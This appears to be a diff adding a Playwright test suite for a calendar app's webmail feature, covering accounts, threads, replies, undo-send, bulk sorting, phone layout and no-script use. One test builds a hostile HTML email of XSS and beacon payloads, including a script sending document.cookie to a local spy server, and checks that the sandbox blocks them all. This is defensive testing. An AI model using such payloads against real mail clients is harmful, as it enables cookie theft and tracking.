@@ -1,0 +1,300 @@
+import { AxeBuilder } from "@axe-core/playwright";
+import type { Page } from "@playwright/test";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { Dovecot, Smtp, message } from "./support/mail.js";
+import { expect, test } from "./support/test.js";
+
+/*
+ * The mail of somebody's account at a server of other hands: added, read, answered, looked for, sorted, and removed.
+ */
+
+test.use({ serverOptions: ["--private-hosts", "127.0.0.1"] });
+
+// A message waits for ten seconds until it is sent.
+test.describe.configure({ timeout: 90_000 });
+
+const PASSWORD = "the password of her mail";
+
+async function accessible(page: Page, what: string) {
+  const found = await new AxeBuilder({ page }).exclude("iframe").analyze();
+  expect(found.violations.map(({ id, nodes }) => `${what}: ${id} at ${nodes.map(({ target }) => target).join(", ")}`)).toEqual([]);
+}
+
+async function picture(page: Page, name: string) {
+  if (process.env.KALENDS_SCREENSHOTS) await page.screenshot({ path: `${process.env.KALENDS_SCREENSHOTS}/${name}.png` });
+}
+
+/** Adds the account by hand, as its address has no domain of its own. */
+async function add(page: Page, imap: Dovecot, smtp: Smtp) {
+  await page.goto("/settings/mail/new");
+  await page.getByLabel("E-mail address").fill("ada@example.org");
+  await page.getByLabel("Your name").fill("Ada Lovelace");
+  await page.getByRole("button", { name: "Write them myself" }).click();
+  await page.getByLabel("User name").fill("ada@example.org");
+  await page.getByLabel("Password").fill(PASSWORD);
+  for (const [group, port] of [["Incoming mail (IMAP)", imap.port], ["Outgoing mail (SMTP)", smtp.port]] as const) {
+    const servers = page.getByRole("group", { name: group });
+    await servers.getByLabel("Server").fill("127.0.0.1");
+    await servers.getByLabel("Port").fill(String(port));
+    await servers.getByLabel("Encryption").selectOption("plain");
+  }
+  await page.getByRole("button", { name: "Sign in and add" }).click();
+  await expect(page.locator(".notice--success")).toContainText("The account is there");
+}
+
+const rows = (page: Page) => page.locator(".mail-row");
+const row = (page: Page, subject: string) => rows(page).filter({ hasText: subject });
+
+/** Waits until what the server has is in the list. */
+async function listed(page: Page, count: number) {
+  await expect(async () => {
+    await page.goto("/mail");
+    await expect(rows(page)).toHaveCount(count, { timeout: 1000 });
+  }).toPass({ timeout: 20000 });
+}
+
+let imap: Dovecot;
+let smtp: Smtp;
+
+test.beforeEach(async () => {
+  [imap, smtp] = await Promise.all([Dovecot.start(PASSWORD), Smtp.start()]);
+});
+
+test.afterEach(async () => {
+  await Promise.all([imap.stop(), smtp.stop()]);
+});
+
+for (const colorScheme of ["light", "dark"] as const) {
+  test.describe(colorScheme, () => {
+    test.use({ colorScheme });
+
+    test("an account is added, its mail read in its thread, and the account removed", async ({ page, account }) => {
+      expect(account.name).toBeTruthy();
+      await page.goto("/courrier");
+      await expect(page.getByRole("heading", { name: "Your mail, beside your calendar" })).toBeVisible();
+      await accessible(page, "without an account");
+      imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?\n\nBob", ["Message-ID: <one@x>"]));
+      imap.deliver(message("Carla <carla@example.org>", "Re: Choir on Thursday", "I do.\n\nBob Baker wrote:\n> Do you come?", ["Message-ID: <two@x>", "References: <one@x>", "In-Reply-To: <one@x>"]));
+      imap.deliver(message("News <news@example.net>", "Weekly news", "Nothing new: https://example.net/none."));
+      await add(page, imap, smtp);
+      await accessible(page, "the account");
+      await picture(page, `mail-account-${colorScheme}`);
+      await listed(page, 2);
+      await expect(row(page, "Choir on Thursday")).toHaveClass(/mail-row--unread/);
+      await accessible(page, "the list");
+      await picture(page, `mail-list-${colorScheme}`);
+
+      await page.goto("/");
+      await expect(page.locator("[data-mail-card]")).toContainText("Weekly news");
+      await accessible(page, "the dashboard");
+      await picture(page, `mail-card-${colorScheme}`);
+
+      await page.goto("/mail");
+      await row(page, "Choir on Thursday").getByRole("link").click();
+      const thread = page.locator(".thread");
+      await expect(thread.getByRole("heading", { level: 1 })).toHaveText("Choir on Thursday");
+      await expect(thread.locator(".message")).toHaveCount(2);
+      await expect(thread.getByText("I do.", { exact: true })).toBeVisible();
+      await expect(thread.locator(".message__quote")).toHaveCount(1);
+      await expect(row(page, "Choir on Thursday")).not.toHaveClass(/mail-row--unread/);
+      await accessible(page, "the thread");
+      await picture(page, `mail-thread-${colorScheme}`);
+
+      await page.goto("/settings/accounts");
+      await accessible(page, "the accounts");
+      await page.getByRole("link", { name: "ada@example.org" }).click();
+      await page.locator("summary", { hasText: "Remove" }).click();
+      await page.locator(".revoke[open]").getByRole("button").click();
+      await expect(page.locator(".notice--success")).toContainText("is gone from here");
+      await page.goto("/mail");
+      await expect(rows(page)).toHaveCount(0);
+      await expect(page.getByRole("heading", { name: "Your mail, beside your calendar" })).toBeVisible();
+    });
+  });
+}
+
+test("an answer is kept while it is typed, sent, and taken back while there is time", async ({ page, account }) => {
+  expect(account.name).toBeTruthy();
+  imap.deliver(message("Bob Baker <bob@example.org>", "Choir on Thursday", "Do you come?"));
+  await add(page, imap, smtp);
+  await listed(page, 1);
+  await row(page, "Choir").getByRole("link").click();
+  await expect(page.locator(".thread")).toBeVisible();
+  await page.keyboard.press("r");
+  await expect(page.getByLabel("To", { exact: true })).toHaveValue(/bob@example\.org/);
+  await expect(page.getByLabel("Subject")).toHaveValue("Re: Choir on Thursday");
+  const text = page.getByLabel("Text");
+  await expect(text).toHaveValue(/> Do you come\?/);
+  await text.press("Control+Home");
+  await page.keyboard.type("Yes, I do.");
+  await expect(page.locator("[data-mail-state]")).toHaveText("Saved");
+  await page.reload();
+  await expect(text).toHaveValue(/^Yes, I do\.\n\n2/);
+  await accessible(page, "writing");
+  await picture(page, "mail-write");
+  await page.getByLabel("Attachments").setInputFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("la la") });
+  await expect(page.getByText("notes.txt")).toBeVisible();
+
+  await page.getByRole("button", { name: "Send", exact: true }).click();
+  await expect(page.locator(".toast")).toContainText("It is being sent");
+  await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
+  await expect(page.locator(".toast")).toContainText("a draft again");
+  expect(smtp.messages).toEqual([]);
+
+  await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Drafts/ }).click();
+  await row(page, "Re: Choir on Thursday").getByRole("link").first().click();
+  await expect(page.getByText("notes.txt")).toBeVisible();
+  await page.getByRole("button", { name: "Send", exact: true }).click();
+  await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
+  const [sent] = smtp.messages;
+  expect(sent!.to).toEqual(["bob@example.org"]);
+  expect(sent!.text).toContain("Subject: Re: Choir on Thursday");
+  expect(sent!.text).toMatch(/In-Reply-To: </i);
+  expect(sent!.text).toContain("notes.txt");
+  await expect(async () => {
+    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Sent/ }).click();
+    await expect(row(page, "Re: Choir on Thursday")).toHaveCount(1, { timeout: 1000 });
+  }).toPass({ timeout: 20000 });
+});
+
+test("several messages are sorted at once and brought back, by hand and by keys", async ({ page, account }) => {
+  expect(account.name).toBeTruthy();
+  for (const subject of ["One", "Two", "Three"]) imap.deliver(message("Bob <bob@example.org>", subject, subject));
+  await add(page, imap, smtp);
+  await listed(page, 3);
+  await row(page, "One").getByRole("checkbox").check({ force: true });
+  await row(page, "Two").getByRole("checkbox").check({ force: true });
+  await accessible(page, "with some chosen");
+  await picture(page, "mail-bulk");
+  await page.getByRole("button", { name: "Archive" }).click();
+  await expect(page.locator(".toast")).toContainText("2 messages moved to Archive");
+  await expect(rows(page)).toHaveCount(1);
+  await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
+  await expect(rows(page)).toHaveCount(3);
+
+  await page.goto("/mail");
+  await page.keyboard.press("j");
+  await page.keyboard.press("x");
+  await page.keyboard.press("#");
+  await expect(page.locator(".toast")).toContainText("1 message moved to Bin");
+  await expect(rows(page)).toHaveCount(2);
+  await page.keyboard.press("?");
+  await expect(page.getByRole("dialog", { name: "Keyboard" })).toBeVisible();
+  await picture(page, "mail-keys");
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("/");
+  await page.keyboard.type("two");
+  await page.keyboard.press("Enter");
+  await expect(page.getByRole("heading", { level: 1, name: /Found for/ })).toBeVisible();
+  await expect(row(page, "Two")).toHaveCount(1);
+  await expect(row(page, "One")).toHaveCount(0);
+});
+
+test("what arrives is in the open list by itself, and what is chosen there stays chosen", async ({ page, account }) => {
+  expect(account.name).toBeTruthy();
+  imap.deliver(message("Bob <bob@example.org>", "First", "First"));
+  await add(page, imap, smtp);
+  await listed(page, 1);
+  await row(page, "First").getByRole("checkbox").check({ force: true });
+  imap.deliver(message("Carla <carla@example.org>", "Second", "Second"));
+  await expect(row(page, "Second")).toBeVisible({ timeout: 30000 });
+  await expect(row(page, "First").getByRole("checkbox")).toBeChecked();
+});
+
+test("nothing of a hostile message runs, is fetched, or learns of the page", async ({ page, account, context }) => {
+  expect(account.name).toBeTruthy();
+  const asked: string[] = [];
+  const spy = createServer((request, answer) => {
+    asked.push(request.url ?? "");
+    answer.end();
+  });
+  await new Promise<void>((listens) => spy.listen(0, "127.0.0.1", listens));
+  const at = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
+  const hostile = [
+    `<script>parent.document.title = "taken"; fetch("${at}/script?" + document.cookie)</script>`,
+    `<img src="${at}/picture"><img src=x onerror="new Image().src='${at}/onerror'">`,
+    `<link rel="stylesheet" href="${at}/sheet.css"><style>@import url("${at}/import.css"); body { background: url(${at}/style) }</style>`,
+    `<div style="background-image: url(${at}/background)">styled</div><video src="${at}/video" poster="${at}/poster" autoplay></video>`,
+    `<iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed">`,
+    `<svg onload="fetch('${at}/svg')"><image href="${at}/svgimage" /></svg><meta http-equiv="refresh" content="0; url=${at}/refresh">`,
+    `<form action="${at}/form"><button id="send">Send</button></form><base href="${at}/"><p>The end</p>`,
+  ].join("\n");
+  imap.deliver(message("Mallory <mallory@example.net>", "Hostile", hostile, ["Content-Type: text/html; charset=utf-8"]));
+  await add(page, imap, smtp);
+  await listed(page, 1);
+  const requests: string[] = [];
+  context.on("request", (request) => requests.push(request.url()));
+  await row(page, "Hostile").getByRole("link").click();
+  const frame = page.frameLocator("[data-mail-frame]");
+  await expect(frame.getByText("The end")).toBeVisible();
+  await page.waitForTimeout(1000);
+  expect(await page.title()).toContain("Hostile");
+  expect(requests.filter((url) => url.startsWith(at))).toEqual([]);
+  expect(asked).toEqual([]);
+  const inside = page.frames().find((inner) => inner.url().includes("/body"))!;
+  const answer = await page.request.get(inside.url());
+  const policy = answer.headers()["content-security-policy"]!;
+  expect(policy).toContain("sandbox");
+  expect(policy).not.toContain("allow-scripts");
+  expect(policy).toContain("default-src 'none'");
+  await picture(page, "mail-hostile");
+
+  // What somebody else sees of it is nothing.
+  const stranger = await page.context().browser()!.newContext();
+  expect((await stranger.request.get(inside.url())).status()).toBe(404);
+  await stranger.close();
+  await new Promise((done) => spy.close(done));
+});
+
+test.describe("on a phone", () => {
+  test.use({ viewport: { width: 390, height: 844 }, hasTouch: true });
+
+  test("there is one column, and a way back", async ({ page, account }) => {
+    expect(account.name).toBeTruthy();
+    imap.deliver(message("Bob Baker <bob@example.org>", "A subject that is so long that it has no room on a small screen at all", "Do you come?"));
+    await add(page, imap, smtp);
+    await listed(page, 1);
+    await accessible(page, "the list");
+    await picture(page, "mail-phone-list");
+    await row(page, "A subject").getByRole("link").click();
+    await expect(page.locator(".thread")).toBeVisible();
+    await accessible(page, "the message");
+    await picture(page, "mail-phone-thread");
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
+    await page.getByRole("link", { name: "Back to the list" }).click();
+    await expect(rows(page)).toHaveCount(1);
+    await page.getByText("Inbox", { exact: true }).first().click();
+    await page.getByRole("navigation", { name: "Folders" }).getByRole("link", { name: /Sent/ }).click();
+    await expect(page.getByRole("heading", { level: 1, name: "Sent" })).toBeVisible();
+    await page.goto("/mail/write");
+    await accessible(page, "writing");
+    await picture(page, "mail-phone-write");
+    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
+  });
+});
+
+test.describe("without scripts", () => {
+  test.use({ javaScriptEnabled: false });
+
+  test("mail is read, sorted and written", async ({ page, account }) => {
+    expect(account.name).toBeTruthy();
+    imap.deliver(message("Bob <bob@example.org>", "Plain", "Do you come?"));
+    await add(page, imap, smtp);
+    await listed(page, 1);
+    await row(page, "Plain").getByRole("link").click();
+    await expect(page.locator(".message__text")).toContainText("Do you come?");
+    await page.locator(".thread").getByRole("button", { name: "Archive" }).click();
+    await expect(page.locator(".toast")).toContainText("1 message moved to Archive");
+    await page.locator(".toast").getByRole("button", { name: "Undo" }).click();
+    await expect(rows(page)).toHaveCount(1);
+    await page.goto("/mail/write");
+    await page.getByLabel("To", { exact: true }).fill("Bob <bob@example.org>");
+    await page.getByLabel("Subject").fill("From here");
+    await page.getByRole("button", { name: "Save draft" }).click();
+    await expect(page.getByLabel("Subject")).toHaveValue("From here");
+    await page.getByRole("button", { name: "Send", exact: true }).click();
+    await expect(page.locator(".toast")).toContainText("It is being sent");
+    await expect.poll(() => smtp.messages.length, { timeout: 30000 }).toBe(1);
+  });
+});
